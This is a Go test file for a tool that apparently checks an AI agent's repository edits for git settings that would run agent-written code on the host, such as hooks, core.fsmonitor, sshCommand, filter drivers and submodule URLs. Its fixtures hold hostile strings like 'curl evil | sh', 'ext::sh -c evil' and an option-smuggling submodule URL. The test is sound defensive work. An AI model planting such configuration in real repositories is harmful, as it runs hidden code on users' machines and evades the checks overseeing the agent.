package workspace

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// gitRun runs the real git in dir with no user or system configuration
// (the test's repository is the only configuration git reads).
func gitRun(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "HOME="+dir,
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
}

// gitWorkspace is a real repository made by git: files committed on main,
// then the baseline configuration (setup, run as git commands) applied.
func gitWorkspace(t *testing.T, files map[string]string, setup ...[]string) string {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Fatalf("these tests need git on PATH: %v", err)
	}
	dir := t.TempDir()
	gitRun(t, dir, "init", "-q", "-b", "main")
	chWrite(t, dir, files)
	gitRun(t, dir, "add", "-A")
	gitRun(t, dir, "commit", "-q", "-m", "base")
	for _, args := range setup {
		gitRun(t, dir, args...)
	}
	return dir
}

// TestHostCodeFailsClosed: every change that makes git, run later in this
// tree on the host, run a program the agent wrote is named in HostCode —
// after AfterTurn (the loop's halt, before the check) and in the diff —
// heads the risky paths and the report's git_executable; harmless git
// activity (a commit, an ignore rule, plain attributes, a submodule moved
// to another https URL) is not.
func TestHostCodeFailsClosed(t *testing.T) {
	base := map[string]string{
		"go.mod":             "module example.com/calc\n\ngo 1.22\n",
		"calc.go":            "package calc\n\nfunc Sum(a, b int) int { return a - b }\n",
		".gitattributes":     "*.png filter=lfs diff=lfs merge=lfs -text\n",
		".gitmodules":        "[submodule \"lib\"]\n\tpath = lib\n\turl = https://example.com/lib.git\n",
		"shared.gitconfig":   "[core]\n\tautocrlf = false\n",
		".husky/pre-commit":  "#!/bin/sh\nnpm test\n",
		"tools/fsmonitor.sh": "#!/bin/sh\nexit 0\n",
		"lib/.git":           "gitdir: ../.git/modules/lib\n",
	}
	baseConfig := [][]string{
		{"config", "include.path", "../shared.gitconfig"},
		{"config", "core.hooksPath", ".husky"},
		{"config", "core.fsmonitor", "./tools/fsmonitor.sh"},
	}
	type edit func(t *testing.T, dir string)
	write := func(files map[string]string) edit {
		return func(t *testing.T, dir string) { chWrite(t, dir, files) }
	}
	git := func(args ...string) edit {
		return func(t *testing.T, dir string) { gitRun(t, dir, args...) }
	}
	cases := []struct {
		name  string
		edits []edit
		host  []string // want HostCode paths, in order
	}{
		{name: "core.fsmonitor set with git config", edits: []edit{git("config", "core.fsmonitor", "touch /tmp/pwned")},
			host: []string{".git/config"}},
		{name: "core.sshCommand appended by hand", edits: []edit{func(t *testing.T, dir string) {
			f, err := os.OpenFile(filepath.Join(dir, ".git/config"), os.O_APPEND|os.O_WRONLY, 0)
			if err != nil {
				t.Fatal(err)
			}
			fmt.Fprintf(f, "[core]\n\tsshCommand = sh -c 'curl evil | sh'\n")
			f.Close()
		}}, host: []string{".git/config"}},
		{name: "a harmless variable in .git/config still fails closed", edits: []edit{git("config", "user.email", "a@b.c")},
			host: []string{".git/config"}},
		{name: "one hook", edits: []edit{write(map[string]string{".git/hooks/post-checkout": "#!/bin/sh\ncurl evil | sh\n"})},
			host: []string{".git/hooks/post-checkout"}},
		{name: "three hooks collapse into one entry", edits: []edit{write(map[string]string{
			".git/hooks/pre-commit": "#!/bin/sh\n", ".git/hooks/post-merge": "#!/bin/sh\n", ".git/hooks/pre-push": "#!/bin/sh\n"})},
			host: []string{".git/hooks/ (3 files changed)"}},
		{name: "info/attributes", edits: []edit{write(map[string]string{".git/info/attributes": "* filter=evil\n"})},
			host: []string{".git/info/attributes"}},
		{name: "config.worktree", edits: []edit{write(map[string]string{".git/config.worktree": "[core]\n\tfsmonitor = evil\n"})},
			host: []string{".git/config.worktree"}},
		{name: "a submodule's config", edits: []edit{write(map[string]string{".git/modules/lib/config": "[core]\n\tfsmonitor = evil\n"})},
			host: []string{".git/modules/lib/config"}},
		{name: "a file the baseline config includes", edits: []edit{write(map[string]string{"shared.gitconfig": "[core]\n\tfsmonitor = evil\n"})},
			host: []string{"shared.gitconfig"}},
		{name: "a hook in the core.hooksPath folder", edits: []edit{write(map[string]string{".husky/pre-commit": "#!/bin/sh\ncurl evil | sh\n"})},
			host: []string{".husky/pre-commit"}},
		{name: "the script core.fsmonitor runs", edits: []edit{write(map[string]string{"tools/fsmonitor.sh": "#!/bin/sh\ncurl evil | sh\n"})},
			host: []string{"tools/fsmonitor.sh"}},
		{name: "a new repository made with git init", edits: []edit{func(t *testing.T, dir string) {
			os.Mkdir(filepath.Join(dir, "sub"), 0o755)
			gitRun(t, filepath.Join(dir, "sub"), "init", "-q")
			gitRun(t, filepath.Join(dir, "sub"), "config", "core.fsmonitor", "curl evil | sh")
		}}, host: []string{"sub/.git/ (a new git repository)"}},
		{name: "a bare repository made with git init --bare", edits: []edit{git("init", "-q", "--bare", "evil")},
			host: []string{"evil/ (a new git repository)"}},
		{name: "a .git file repointed", edits: []edit{write(map[string]string{"lib/.git": "gitdir: ../evil\n"})},
			host: []string{"lib/.git"}},
		{name: "a new .git file", edits: []edit{write(map[string]string{"pkg/.git": "gitdir: ../evil\n"})},
			host: []string{"pkg/.git"}},
		{name: "a .gitattributes adding a filter driver", edits: []edit{write(map[string]string{"src/.gitattributes": "*.go filter=indent\n"})},
			host: []string{"src/.gitattributes"}},
		{name: "a diff driver added to the top .gitattributes", edits: []edit{write(map[string]string{
			".gitattributes": "*.png filter=lfs diff=lfs merge=lfs -text\n*.go diff=evil\n"})},
			host: []string{".gitattributes"}},
		{name: "a macro that sets a merge driver", edits: []edit{write(map[string]string{
			".gitattributes": "[attr]evil merge=ours\n*.png filter=lfs diff=lfs merge=lfs -text\n"})},
			host: []string{".gitattributes"}},
		{name: "a submodule update command", edits: []edit{write(map[string]string{
			".gitmodules": "[submodule \"lib\"]\n\tpath = lib\n\turl = https://example.com/lib.git\n\tupdate = !sh -c 'curl evil | sh'\n"})},
			host: []string{".gitmodules"}},
		{name: "a submodule URL through a transport helper", edits: []edit{write(map[string]string{
			".gitmodules": "[submodule \"lib\"]\n\tpath = lib\n\turl = ext::sh -c evil\n"})},
			host: []string{".gitmodules"}},
		{name: "a submodule URL taken for an option", edits: []edit{write(map[string]string{
			".gitmodules": "[submodule \"lib\"]\n\tpath = lib\n\turl = \"-u./payload\"\n"})},
			host: []string{".gitmodules"}},

		{name: "a commit is git's database, not its configuration", edits: []edit{
			write(map[string]string{"calc.go": "package calc\n\nfunc Sum(a, b int) int { return a + b }\n"}),
			git("commit", "-q", "-am", "fix"), git("checkout", "-q", "-b", "topic")}},
		{name: "plain attributes", edits: []edit{write(map[string]string{
			".gitattributes": "*.png filter=lfs diff=lfs merge=lfs -text\n*.sh text eol=lf\n", "docs/.gitattributes": "*.md linguist-documentation\n"})}},
		{name: "an ignore rule", edits: []edit{write(map[string]string{".git/info/exclude": "*.log\n", ".gitignore": "bin/\n"})}},
		{name: "a submodule moved to another https URL", edits: []edit{write(map[string]string{
			".gitmodules": "[submodule \"lib\"]\n\tpath = lib\n\turl = https://example.org/lib.git\n"})}},
		{name: "a .gitattributes removed", edits: []edit{func(t *testing.T, dir string) {
			os.Remove(filepath.Join(dir, ".gitattributes"))
		}}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := gitWorkspace(t, base, baseConfig...)
			tr := New(dir, Options{Check: "go test ./...", TempDir: t.TempDir()})
			t.Cleanup(func() { tr.Close() })
			ctx := context.Background()
			if err := tr.Baseline(ctx); err != nil {
				t.Fatal(err)
			}
			for _, e := range c.edits {
				e(t, dir)
			}
			if _, err := tr.AfterTurn(ctx, 1); err != nil {
				t.Fatal(err)
			}
			if got := pathsOf(tr.HostCode()); !slices.Equal(got, c.host) {
				t.Errorf("HostCode after the turn = %q, want %q", got, c.host)
			}
			d := chDiff(t, tr)
			if got := pathsOf(d.HostCode); !slices.Equal(got, c.host) {
				t.Errorf("diff's HostCode = %q, want %q", got, c.host)
			}
			if host := pathsOf(d.HostCode); !slices.Equal(host, c.host) {
				t.Errorf("host code = %q, want %q", host, c.host)
			}
			if risky := pathsOf(d.Risky); len(c.host) > 0 && !slices.Equal(risky[:len(c.host)], c.host) {
				t.Errorf("risky paths = %q, want %q first", risky, c.host)
			}
			for _, r := range d.HostCode {
				if r.Reason == "" {
					t.Errorf("%s: no reason", r.Path)
				}
			}
		})
	}
}

func pathsOf(rs []RiskyPath) []string {
	var out []string
	for _, r := range rs {
		out = append(out, r.Path)
	}
	return out
}
